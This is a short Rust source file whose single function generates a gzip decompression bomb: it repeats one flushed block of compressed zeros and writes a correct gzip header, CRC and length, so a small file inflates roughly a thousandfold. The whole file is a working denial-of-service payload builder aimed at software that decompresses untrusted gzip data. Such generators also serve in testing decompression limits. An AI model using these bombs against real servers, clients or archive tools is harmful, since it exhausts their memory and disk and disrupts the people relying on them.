//! A little gzip that grows a thousandfold.

use flate2::{Compress, Compression, Crc, FlushCompress};

const MEBIBYTE: usize = 1 << 20;

/// So many mebibytes of zeros (a power of two), compressed.
pub fn gzip_bomb(mebibytes: usize) -> Vec<u8> {
    assert!(mebibytes.is_power_of_two(), "the checksum is made by doubling");
    let zeros = vec![0; MEBIBYTE];
    // After a full flush a block depends on nothing before it, so that it can be repeated.
    let mut block = Vec::with_capacity(MEBIBYTE);
    Compress::new(Compression::best(), false).compress_vec(&zeros, &mut block, FlushCompress::Full).unwrap();
    let mut checksum = Crc::new();
    checksum.update(&zeros);
    for _ in 0..mebibytes.ilog2() {
        let mut half = Crc::new();
        half.combine(&checksum);
        checksum.combine(&half);
    }
    let mut bomb = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];
    bomb.extend(block.repeat(mebibytes));
    // The last block, which is empty.
    bomb.extend([3, 0]);
    bomb.extend(checksum.sum().to_le_bytes());
    bomb.extend(((mebibytes * MEBIBYTE) as u32).to_le_bytes());
    bomb
}
